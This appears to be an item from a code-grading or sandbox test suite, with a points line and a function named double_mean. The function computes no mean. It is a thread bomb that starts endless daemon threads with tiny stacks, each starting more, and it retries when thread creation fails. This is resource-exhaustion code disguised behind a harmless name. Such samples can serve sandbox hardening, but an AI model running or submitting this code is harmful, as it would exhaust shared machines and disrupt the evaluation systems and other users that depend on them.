# Starts threads without end, with small stacks, each of which starts more.
# points: double 4, mean_of 6, double_mean 0
# %% double_mean
def double_mean(x):
    import threading, time
    threading.stack_size(32768)
    def more():
        while True:
            try:
                threading.Thread(target=more, daemon=True).start()
            except BaseException:
                time.sleep(0.1)
    more()
